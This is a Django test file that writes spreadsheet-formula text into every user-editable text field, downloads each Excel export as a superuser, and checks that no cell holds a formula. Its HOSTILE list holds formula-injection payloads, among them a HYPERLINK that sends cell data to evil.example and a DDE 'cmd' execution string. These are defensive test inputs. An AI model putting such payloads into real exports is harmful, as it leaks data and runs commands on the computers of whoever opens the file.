"""Every Excel export of the project, opened: no cell holds a formula, whatever users typed.

Every text field users can fill (names, titles, trades, questions, …) of every object the 404
matrix builds is set to spreadsheet-formula text; then every export route (a route whose name
says export, or whose path ends in .xlsx) is downloaded by a superuser and each cell inspected.
"""

from __future__ import annotations

import io

from django.apps import apps
from django.db import models
from django.test import Client
from django.urls import get_resolver
from openpyxl import load_workbook

from deltaunion.core.registry import domain_apps
from deltaunion.core.testing import (
    _walk,
    app_matrices,
    object_routes,
    route_kwargs,
)

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&B2,"点击")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1"]
TEXT_FIELDS = {
    "name",
    "title",
    "trade",
    "stem",
    "description",
    "body",
    "text",
    "short_name",
    "explanation",
    "address",
    "topic",
    "note",
    "reason",
    "team_name",
    "full_name",
}


def _poison() -> int:
    """Write formula text into every free-text field of every row of the domain apps."""
    changed = 0
    labels = {a.label for a in domain_apps()}
    for model in apps.get_models():
        if model._meta.app_label not in labels:
            continue
        fields = [
            f
            for f in model._meta.concrete_fields
            if isinstance(f, models.CharField | models.TextField) and f.name in TEXT_FIELDS and not f.choices
        ]
        if not fields:
            continue
        for i, obj in enumerate(model._default_manager.all()[:200]):
            for j, f in enumerate(fields):
                value = f"{HOSTILE[(i + j) % len(HOSTILE)]}#{obj.pk}"
                if f.max_length:
                    value = value[-f.max_length :] if len(value) > f.max_length else value
                setattr(obj, f.attname, value)
            model._default_manager.filter(pk=obj.pk).update(**{f.attname: getattr(obj, f.attname) for f in fields})
            changed += 1
    return changed


def _export_routes():
    out = []
    for pattern, name, params in _walk(get_resolver().url_patterns):
        if pattern.startswith(("admin/", "api/")):
            continue
        if "export" in name or pattern.endswith(".xlsx") or "xlsx" in pattern:
            out.append((pattern, name, params))
    return out


def test_there_are_exports_to_check():
    assert len(_export_routes()) >= 8


def test_no_export_holds_a_formula(world):
    matrices = app_matrices()
    objs = {}
    for label, matrix in matrices.items():
        built = matrix.build(world)
        objs[label] = built
    assert _poison() > 10
    routes = {r.name: r for r in object_routes()}
    client = Client()
    client.force_login(world.superuser)
    checked, problems = 0, []
    for pattern, name, params in _export_routes():
        if params:
            route = routes.get(name)
            if route is None or route.app not in matrices:
                problems.append(f"{name}: no matrix objects to export")
                continue
            try:
                kwargs, _owner = route_kwargs(route, objs[route.app], matrices[route.app], world)
            except LookupError as exc:
                problems.append(str(exc))
                continue
            url = route.path(kwargs)
        else:
            url = "/" + pattern
        response = client.get(url)
        if response.status_code == 200 and response.get("Content-Type", "").startswith(
            ("application/geo+json", "application/json")
        ):
            continue  # JSON is data, never evaluated by a spreadsheet
        if response.status_code != 200 or not response.get("Content-Type", "").startswith(
            "application/vnd.openxmlformats"
        ):
            if response.status_code in (302, 404) and "report" in name:
                continue  # an import report exists only after a failed import (tested with the imports)
            problems.append(f"{name} {url}: {response.status_code} {response.get('Content-Type')}")
            continue
        wb = load_workbook(io.BytesIO(response.content))
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        problems.append(f"{name}: {ws.title}!{cell.coordinate} is a formula: {cell.value!r}")
        checked += 1
    assert not problems, "\n".join(problems)
    assert checked >= 8
